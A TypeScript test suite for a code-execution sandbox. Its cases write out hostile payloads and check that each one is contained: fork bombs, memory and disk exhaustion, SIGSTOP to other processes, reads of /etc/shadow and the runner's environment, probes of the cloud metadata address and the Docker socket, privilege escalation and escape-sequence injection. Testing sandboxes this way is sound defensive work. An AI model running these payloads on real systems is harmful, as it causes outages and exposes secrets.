import { HONEST_CODE, type ArenaCase } from './arena.ts';

/** Code that does something and otherwise works, so that a harmless attack passes. */
function doing(body: string, imports = ''): string {
  return `${imports}\n${body}\n${HONEST_CODE}`;
}

/** Tries each expression and prints what became of it; nothing may be reached. */
function probing(imports: string, attempts: Record<string, string>): string {
  const lines = Object.entries(attempts).map(([name, expression]) => `  try { const value = await (${expression}); console.log('REACHED ${name} ' + String(value).slice(0, 200)); } catch (error: any) { console.log('refused ${name} ' + (error?.code ?? error?.message)); }`);
  return doing(`{\n${lines.join('\n')}\n}`, imports);
}

function nothingReached({ output }: { output: string }): void {
  const reached = output.split('\n').filter((line) => line.startsWith('REACHED'));
  if (reached.length > 0) throw new Error(reached.join('\n'));
  if (!output.includes('refused')) throw new Error(`nothing was tried:\n${output}`);
}

const ENDED = ['failed', 'tampered', 'timeout', 'out-of-memory'] as const;
const SHORT = { timeoutMs: 5000 };

/** S1-S3: processes and memory. */
export const exhaustion: ArenaCase[] = [
  { name: 'S1 fork bomb, asynchronous', code: doing("const next = () => { const child = spawn(process.execPath, ['-e', 'setTimeout(() => {}, 1e5)'], { stdio: 'ignore' }); child.on('error', () => {}); setImmediate(next); };\nnext();", "import { spawn } from 'node:child_process';"), limits: SHORT, outcome: ENDED },
  { name: 'S1 fork bomb of forks', code: doing("const bomb = \"const { spawn } = require('child_process'); for (;;) { try { spawn(process.execPath, ['-e', process.argv[1], process.argv[1]], { stdio: 'ignore' }).on('error', () => {}); } catch {} }\";\nfor (let i = 0; i < 20; i += 1) spawn(process.execPath, ['-e', bomb, bomb], { stdio: 'ignore', detached: true }).on('error', () => {});\nawait new Promise(() => {});", "import { spawn } from 'node:child_process';"), limits: SHORT, outcome: ENDED },
  { name: 'S1 threads in a child', code: doing("const child = spawnSync(process.execPath, ['-e', \"const { Worker } = require('worker_threads'); for (let i = 0; i < 500; i += 1) new Worker('setInterval(() => {}, 1e3)', { eval: true }).on('error', () => {}); setTimeout(() => {}, 1e5)\"], { timeout: 20000 });\nconsole.log(child.status);", "import { spawnSync } from 'node:child_process';"), limits: SHORT, outcome: ENDED },
  { name: 'S2 heap', code: doing("const all: unknown[] = [];\nfor (;;) all.push(Array.from({ length: 10_000 }, () => ({ a: 1 })));"), outcome: 'out-of-memory' },
  { name: 'S2 buffers', code: doing('const all: Buffer[] = [];\nfor (;;) all.push(Buffer.alloc(8 * 1024 * 1024, 1));'), outcome: 'out-of-memory' },
  { name: 'S2 wasm memory', code: doing('const all: unknown[] = [];\nfor (;;) { const memory = new WebAssembly.Memory({ initial: 256 }); new Uint8Array(memory.buffer).fill(1); all.push(memory); }'), outcome: 'out-of-memory' },
  { name: 'S2 strings', code: doing("let text = 'x'.repeat(1024);\nconst all: string[] = [];\nfor (;;) { text = text + Math.random(); all.push(Buffer.from(text.repeat(2000)).toString('latin1')); }"), outcome: 'out-of-memory' },
  { name: 'S2 the folder for temporary files counts', code: doing("for (let i = 0; ; i += 1) { try { writeFileSync('/tmp/' + i, Buffer.alloc(8 * 1024 * 1024, 1)); } catch { break; } }\nconst all: Buffer[] = [];\nfor (;;) all.push(Buffer.alloc(4 * 1024 * 1024, 1));", "import { writeFileSync } from 'node:fs';"), outcome: 'out-of-memory' },
  { name: 'S3 a child runs out of memory and the tests pass', code: doing("spawnSync(process.execPath, ['--max-old-space-size=4096', '-e', 'const all = []; for (;;) all.push(Buffer.alloc(8 * 1024 * 1024, 1))']);", "import { spawnSync } from 'node:child_process';"), outcome: 'out-of-memory' },
];

/** S4, S5, S15: time. */
export const stalls: ArenaCase[] = [
  ['S4 while (true) at import', 'for (;;);', ''],
  ['S4 while (true) in the function', '', 'for (;;);'],
  ['S4 in toString', '', 'return `${{ toString() { for (;;); } }}` as any;'],
  ['S4 a regular expression that never ends', '', "return /^(a+)+$/.test('a'.repeat(60) + 'b') as any;"],
  ['S5 a promise that never resolves', 'await new Promise(() => {});', ''],
  ['S5 a million timers', 'for (let i = 0; i < 1e6; i += 1) setTimeout(() => {}, 1e6);\nawait new Promise(() => {});', ''],
  ['S5 Atomics.wait', 'Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);', ''],
  ['S5 microtasks without end', '', 'const again = (): void => queueMicrotask(again); again(); return new Promise(() => {}) as any;'],
  ['S15 ignores SIGTERM', "for (const signal of ['SIGTERM', 'SIGINT', 'SIGHUP']) process.on(signal, () => {});\nfor (;;);", ''],
  ['S15 stops itself', "process.kill(process.pid, 'SIGSTOP');", ''],
  ['S15 stops the runner', "process.kill(process.ppid, 'SIGSTOP');\nfor (;;);", ''],
  ['S15 stops everything', "process.kill(-1, 'SIGSTOP');\nfor (;;);", ''],
].map(([name = '', around = '', inside = '']): ArenaCase => ({ name, code: inside === '' ? doing(around) : HONEST_CODE.replace('return', `${inside}\n  return`), limits: { timeoutMs: 3000 }, outcome: name.includes('million') ? ['timeout', 'out-of-memory'] : 'timeout' }));

/** S6, S7: output. The verdict is never lost to it. */
export const floods: ArenaCase[] = [
  ['S6 256 MiB to standard output', "for (let i = 0; i < 256; i += 1) process.stdout.write('x'.repeat(1024 * 1024 - 1) + '\\n');"],
  ['S6 256 MiB to standard error', "for (let i = 0; i < 256; i += 1) process.stderr.write('x'.repeat(1024 * 1024 - 1) + '\\n');"],
  ['S6 one line without an end', "for (let i = 0; i < 64; i += 1) process.stdout.write('x'.repeat(1024 * 1024));"],
].map(([name = '', body = '']): ArenaCase => ({ name, code: doing(body), limits: { timeoutMs: 30_000 }, outcome: 'passed', check: ({ output, outputTruncated }) => {
  if (!outputTruncated || output.length > 2.2 * 1024 * 1024) throw new Error(`${outputTruncated} ${output.length}`);
} }));

export const directFloods: ArenaCase[] = [
  { name: "S6 1 GiB into the container's own output", code: doing("const fd = openSync('/proc/1/fd/1', 'w');\nconst text = 'x'.repeat(1024 * 1024);\nfor (let i = 0; i < 1024; i += 1) writeSync(fd, text);", "import { openSync, writeSync } from 'node:fs';"), limits: { timeoutMs: 20_000 }, outcome: ['output-limit', 'failed'] },
  { name: "S6 1 GiB into the container's own error output", code: doing("const fd = openSync('/proc/1/fd/2', 'w');\nconst text = 'x'.repeat(1024 * 1024);\nfor (let i = 0; i < 1024; i += 1) writeSync(fd, text);", "import { openSync, writeSync } from 'node:fs';"), limits: { timeoutMs: 20_000 }, outcome: ['output-limit', 'failed'] },
  { name: 'S7 escape sequences, carriage returns, null bytes, invalid UTF-8, bidi controls', code: doing(String.raw`process.stdout.write(Buffer.from([0xff, 0xfe, 0x41, 0x00, 0x0a]));
process.stdout.write('\u001b[31mred\u001b[0m\u001b]0;title\u0007\u001b]8;;http://x\u001b\\link\u001b]8;;\u001b\\ over\rwritten \u202Eevil\u202C \u009b2J end\n');`), outcome: 'passed', check: ({ output }) => {
    // eslint-disable-next-line no-control-regex -- exactly these must not be there
    if (/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/.test(output)) throw new Error(JSON.stringify(output));
    if (!output.includes('red') || !output.includes('link over\nwritten evil  end')) throw new Error(JSON.stringify(output));
  } },
  { name: 'A11 secrets in the output are redacted', code: doing("console.log('xoxb-123456789012-abcdefghijkl', 'ghp_' + 'a'.repeat(36), 'password=hunter2hunter2');"), outcome: 'passed', check: ({ output }) => {
    if (/xoxb|ghp_a|hunter2/.test(output)) throw new Error(output);
  } },
];

/** S8-S12, S17, S18, S20: what the code reaches for. */
export const reaching: ArenaCase[] = [
  { name: 'S8 fills the disk', code: probing("import { writeFileSync, truncateSync, openSync } from 'node:fs';", {
    full: "(() => { for (let i = 0; i < 100; i += 1) writeFileSync('/tmp/f' + i, Buffer.alloc(1024 * 1024)); return 'written 100 MiB'; })()",
    inodes: "(() => { for (let i = 0; i < 1e6; i += 1) writeFileSync('/tmp/i' + i, ''); return 'made a million files'; })()",
  }), outcome: 'passed', check: nothingReached, limits: { memoryMb: 512, timeoutMs: 20_000 } },
  { name: 'S8 a file of a terabyte', code: doing("writeFileSync('/tmp/sparse', '');\ntruncateSync('/tmp/sparse', 1024 ** 4);\nconsole.log('REACHED sparse');", "import { truncateSync, writeFileSync } from 'node:fs';"), outcome: 'failed' },
  { name: 'S9 writes where it may not', code: probing("import { writeFileSync, mkdirSync, symlinkSync } from 'node:fs';", Object.fromEntries(
    ['/x', '/bin/x', '/job/x', '/job/runner/harness.js', '/job/node_modules/vitest/x', '/etc/passwd', '/proc/sys/kernel/core_pattern', '/sys/fs/cgroup/memory/x', '/dev/x'].map((path) => [path, `writeFileSync('${path}', 'x')`]),
  )), outcome: 'passed', check: nothingReached },
  { name: 'S10 the network', code: probing("import { connect } from 'node:net';\nimport { lookup } from 'node:dns/promises';\nimport { createSocket } from 'node:dgram';\nconst tcp = (host: string, port: number) => new Promise((resolve, reject) => { const socket = connect({ host, port, timeout: 500 }); socket.on('connect', () => resolve('connected')).on('error', reject).on('timeout', () => { socket.destroy(); reject(new Error('timed out')); }); });\nconst udp = (host: string) => new Promise((resolve, reject) => { const socket = createSocket('udp4'); socket.on('error', reject); socket.send('x', 53, host, (error) => { socket.close(); error ? reject(error) : resolve('sent'); }); });", {
    dns: "lookup('example.org')", metadata: "tcp('169.254.169.254', 80)", gateway: "tcp('172.17.0.1', 80)", mongo: "tcp('127.0.0.1', 27017)", redis: "tcp('127.0.0.1', 6379)",
    docker: "tcp('172.17.0.1', 2375)", udp: "udp('8.8.8.8')", fetch: "fetch('http://example.org')",
  }), outcome: 'passed', check: nothingReached },
  { name: 'S11 the host', code: probing("import { readFileSync, readdirSync } from 'node:fs';", {
    kcore: "readFileSync('/proc/kcore')", shadow: "readFileSync('/etc/shadow')", hostRoot: "readdirSync('/proc/1/root/home')", mem: "readFileSync('/dev/mem')",
    runnerMemory: "readFileSync('/proc/' + process.ppid + '/mem')", runnerEnvironment: "readFileSync('/proc/' + process.ppid + '/environ')", runnerFiles: "readdirSync('/proc/' + process.ppid + '/fd')",
    ownMemory: "readFileSync('/proc/self/mem')", keys: "readFileSync('/proc/keys').length === 0 ? Promise.reject(new Error('empty')) : 'keys'", node: "readFileSync('/bin/node')",
  }), outcome: 'passed', check: nothingReached },
  { name: 'S11 the environment holds nothing', code: doing("console.log('ENV ' + Object.keys(process.env).sort().join(' '));"), outcome: 'passed', check: ({ output }) => {
    if (/TOKEN|SECRET|KEY|REDIS|MONGO|SLACK|DISCORD/i.test(/^ENV (.*)$/m.exec(output)?.[1] ?? 'KEY')) throw new Error(output);
  } },
  { name: 'S12 devices and sockets of the host', code: probing("import { openSync, readdirSync } from 'node:fs';\nimport { connect } from 'node:net';\nimport { spawnSync } from 'node:child_process';", {
    dockerSocket: "new Promise((resolve, reject) => connect('/var/run/docker.sock').on('connect', () => resolve('connected')).on('error', reject))",
    devices: "['/dev/mem', '/dev/kmem', '/dev/sda', '/dev/vda', '/dev/kvm', '/dev/fuse'].map((path) => openSync(path, 'r'))[0]",
    programs: "['mount', 'unshare', 'su', 'sudo', 'sh', 'nsenter', 'npm', 'npx', 'curl'].map((name) => spawnSync(name)).every((done) => done.error) ? Promise.reject(new Error('ENOENT')) : 'a program'",
    signalInit: "process.kill(1, 'SIGUSR1') && new Promise((resolve, reject) => connect(9229, '127.0.0.1').on('connect', () => resolve('inspector')).on('error', reject))",
    inspectRunner: "process.kill(process.ppid, 'SIGUSR1') && new Promise((resolve, reject) => setTimeout(() => connect(9229, '127.0.0.1').on('connect', () => resolve('inspector')).on('error', reject), 300))",
  }), outcome: ['passed', 'failed'], check: ({ output }) => { if (/^REACHED/m.test(output)) throw new Error(output); } },
  { name: 'S17 what opens the process itself', code: probing('', {
    inspector: "import('node:inspector')", workers: "import('node:worker_threads')", vm: "import('node:vm')", v8: "import('node:v8')", module: "import('node:module')",
    builtin: "process.getBuiltinModule('node:inspector') ?? Promise.reject(new Error('undefined'))", binding: "(process as any).binding('inspector')", linked: "(process as any)._linkedBinding('inspector')",
    addon: "(process as any).dlopen({ exports: {} }, '/job/node_modules/lightningcss-linux-x64-gnu/lightningcss.linux-x64-gnu.node')", require: 'typeof (globalThis as any).require === "function" ? "require" : Promise.reject(new Error("none"))',
    functionImport: "new Function('return import(\"node:inspector\")')()", evalImport: "(0, eval)('import(\"node:inspector\")')",
  }), outcome: 'passed', check: nothingReached },
  { name: 'S17 a native add-on of its own', code: probing("import { copyFileSync } from 'node:fs';\nimport { spawnSync } from 'node:child_process';", {
    addon: "(copyFileSync('/job/node_modules/lightningcss-linux-x64-gnu/lightningcss.linux-x64-gnu.node', '/tmp/own.node'), spawnSync(process.execPath, ['-e', 'process.dlopen({ exports: {} }, \"/tmp/own.node\")']).status === 0 ? 'loaded' : Promise.reject(new Error('noexec')))",
    program: "(copyFileSync('/job/node_modules/lightningcss-linux-x64-gnu/lightningcss.linux-x64-gnu.node', '/tmp/program'), (() => { const { error, status } = spawnSync('/tmp/program'); if (error) throw error; return status; })())",
  }), outcome: 'passed', check: nothingReached },
  { name: 'S18 packages and addresses', code: probing('const named = (name: string): Promise<unknown> => import(name);', {
    http: "named('http://example.org/x.js')", https: "named('https://example.org/x.js')", data: "named('data:text/javascript,export default 1')", package: "named('express')",
    neighbour: "named('/job/node_modules/vite/dist/node/index.js')", file: "named('file:///job/node_modules/chai/index.js')",
  }), outcome: 'passed', check: nothingReached },
  { name: 'S20 rights', code: probing("import { readFileSync } from 'node:fs';", {
    setuid: 'process.setuid!(0)', setgid: 'process.setgid!(0)', setgroups: 'process.setgroups!([0])', chroot: "import('node:fs').then((fs: any) => fs.chownSync('/tmp', 0, 0))",
    capabilities: "/CapEff:\\s*0+\\n/.test(readFileSync('/proc/self/status', 'utf8')) ? Promise.reject(new Error('none')) : 'capabilities'",
    newPrivileges: "/NoNewPrivs:\\s*1/.test(readFileSync('/proc/self/status', 'utf8')) ? Promise.reject(new Error('none')) : 'new privileges'",
    seccomp: "/Seccomp:\\s*2/.test(readFileSync('/proc/self/status', 'utf8')) ? Promise.reject(new Error('filtered')) : 'no filter'",
    nice: "import('node:os').then((os) => os.setPriority(-10))",
  }), outcome: 'passed', check: nothingReached },
];

/** S13, S16: what it leaves behind. */
export const leftovers: ArenaCase[] = [
  { name: 'S13 the result is a link, a FIFO or a folder', code: doing("for (const name of ['report.json', 'coverage', 'subject.ts.map']) { try { unlinkSync('/job/work/' + name); } catch {} }\nsymlinkSync('/etc/passwd', '/job/work/report.json');\nmkdirSync('/job/work/coverage');\ntry { unlinkSync('/job/work/subject.ts'); symlinkSync('/etc/passwd', '/job/work/subject.ts'); } catch {}", "import { mkdirSync, symlinkSync, unlinkSync } from 'node:fs';"), outcome: 'passed', check: ({ coverage }) => { if (coverage.lines === 0) throw new Error('the disk decided about the coverage'); } },
  { name: 'S16 a daemon in a session of its own', code: doing("for (let i = 0; i < 3; i += 1) spawn(process.execPath, ['-e', \"require('child_process').spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)'], { detached: true, stdio: 'ignore' }).unref()\"], { detached: true, stdio: 'ignore' }).unref();\nawait new Promise((resolve) => setTimeout(resolve, 300));", "import { spawn } from 'node:child_process';"), outcome: ['passed', 'failed'] },
];
